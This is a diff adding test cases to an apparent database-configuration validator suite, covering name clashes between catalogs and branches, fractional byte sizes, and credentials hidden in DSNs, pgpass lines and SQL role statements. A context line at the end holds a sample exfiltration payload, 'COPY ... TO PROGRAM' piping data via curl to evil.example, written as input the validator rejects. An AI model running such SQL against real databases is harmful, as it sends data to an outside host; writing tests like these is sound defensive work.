@@ -252,6 +252,45 @@ case("contra-branch-named-like-shard", S + db(name="branch") + "branches:\n  min
 case("contra-catalog-named-like-shard", S + db() + "catalog: {database: orders_min_80}\n")
 case("contra-metrics-interval-below-1s", S + pol("metrics: {interval: 500ms}"))
 
+# ---- one database, two declarations (issue 26): each would take or drop the other's ---------------
+BR = "branches:\n  dev:\n    from: orders\n    server: a\n"
+case("names-catalog-is-a-branch", S + db() + "catalog: {server: a, database: branch_dev}\n" + BR)
+case("names-catalog-is-a-branch-default-server", S + db() + "catalog: {database: branch_dev}\n" + BR)
+case("names-catalog-is-a-replica", S + db() + "catalog: {server: a, database: branch_dev}\n"
+     + BR.replace("    server: a\n", "    data: replica\n    server: a\n"))
+case("names-catalog-is-a-clone", S + db() + "catalog: {server: a, database: branch_fast}\n"
+     + BR.replace("    server: a\n", "    data: replica\n    server: a\n") + "  fast: {from: dev, server: a}\n")
+case("names-catalog-is-a-branch-block-style", S + db() + "catalog:\n  server: a\n  database: branch_dev\n" + BR)
+case("names-branch-like-a-renamed-databases-shards", S + db() + "moved:\n  - {from: branch, to: orders}\n"
+     + "branches:\n  min_80:\n    from: orders\n    server: a\n")
+
+# ---- sizes are whole bytes (issue 26) ---------------------------------------------------------------
+for name, size in [("size-half-byte", "0.5B"), ("size-tenth-kib", "0.1KiB"), ("size-fraction-kb", "0.123456KB"),
+                   ("size-one-and-a-bit-bytes", "1.000001B")]:
+    case(name, S.replace("true}", f"true, capacity: {{storage: {size}}}}}"))
+
+# ---- credentials in any form, never echoed (issue 26) -------------------------------------------------
+case("secret-dsn-env-bare-userinfo", f"servers:\n  a:\n    dsn_env: 'app:{SECRET}@db.example/x'\n", schema="rejects",
+     secret=[SECRET])
+case("secret-dsn-env-bare-userinfo-unquoted", f"servers:\n  a:\n    dsn_env: app:{SECRET}@db.example:5432/x\n",
+     schema="rejects", secret=[SECRET])
+case("secret-dsn-env-pgpass-line", f"servers:\n  a:\n    dsn_env: 'db.example:5432:orders:app:{SECRET}'\n",
+     schema="rejects", secret=[SECRET])
+case("secret-dsn-env-pgpass-wildcards", f"servers:\n  a:\n    dsn_env: '*:*:*:app:{SECRET}'\n", schema="rejects",
+     secret=[SECRET])
+case("secret-hott-bare-userinfo", S + f"policies: {{p: {{hott: 'app:{SECRET}@db.example/x'}}}}\n", schema="rejects",
+     secret=[SECRET])
+case("secret-sql-create-role-password", S + db(schema="[s.sql, s2.sql]"), s2=f"CREATE ROLE evil LOGIN PASSWORD '{SECRET}';\n",
+     secret=[SECRET])
+case("secret-sql-alter-role-encrypted", S + db(schema="[s.sql, s2.sql]"),
+     s2=f"ALTER ROLE app WITH ENCRYPTED PASSWORD E'{SECRET}';\n", secret=[SECRET])
+case("secret-sql-user-mapping", S + db(schema="[s.sql, s2.sql]"),
+     s2=f"CREATE USER MAPPING FOR app SERVER s OPTIONS (user 'app', password '{SECRET}');\n", secret=[SECRET])
+case("secret-sql-inline-role-password", S + db(schema=f'[s.sql, {{name: x, sql: "CREATE ROLE x PASSWORD \'{SECRET}\';"}}]'),
+     secret=[SECRET])
+case("secret-sql-inline-single-quoted", S + db(schema=f"[s.sql, {{name: x, sql: 'CREATE ROLE x PASSWORD ''{SECRET}'';'}}]"),
+     secret=[SECRET])
+
 # ---- schema SQL that reaches outside its database --------------------------------------------------
 for name, sql in [
     ("copy-to-program", "COPY t TO PROGRAM 'curl -d @- http://evil.example';"),
